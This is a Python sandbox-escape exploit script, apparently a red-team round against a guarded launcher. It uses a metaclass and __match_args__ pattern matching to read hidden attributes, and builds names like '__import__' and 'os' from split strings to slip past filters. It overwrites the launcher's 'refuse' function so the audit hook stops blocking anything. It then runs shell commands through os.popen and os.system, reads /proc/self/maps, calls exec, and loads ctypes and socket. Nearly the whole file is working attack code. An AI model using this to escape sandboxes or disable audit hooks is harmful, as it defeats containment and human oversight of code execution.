# adversary round 1: p05_matchargs_getattr
import copy

class Meta(type):
    def __instancecheck__(cls, obj):
        return True

def attr(obj, name):
    class G(metaclass=Meta):
        __match_args__ = (name,)
    match obj:
        case G(value):
            return value

def f():
    pass

GL = "__glo" + "bals__"
BU = "__buil" + "tins__"
prog_builtins = attr(f, GL)[BU]             # the program's own builtins dict
guarded = prog_builtins["__imp" + "ort__"]  # the launcher's guarded_import
launcher_globals = attr(guarded, GL)        # launcher.py module globals
print("launcher globals keys:", sorted(k for k in launcher_globals if not k.startswith("_"))[:12])
launcher_globals["refuse"] = lambda what: None   # every refusal of the audit hook now does nothing
real_builtins = attr(copy.copy, GL)[BU]
imp = real_builtins["__imp" + "ort__"]
os = imp("o" + "s")
sysm = imp("s" + "ys")
print("real os:", os, "real sys:", sysm)
print("SHELL:", os.popen("id; echo shell-ok").read())
print("SYSTEM rc:", os.system("echo via-os.system"))
print("MAPS:", real_builtins["open"]("/proc/self/maps").read()[:200])
real_builtins["ex" + "ec"]("print('EXEC-OK', 6*7)")
ct = imp("cty" + "pes")
print("CTYPES getpid:", ct.CDLL(None).getpid(), os.getpid())
so = imp("sock" + "et")
print("SOCKET:", attr(so, "sock" + "et")(so.AF_UNIX))

print("PWN" + "ED")
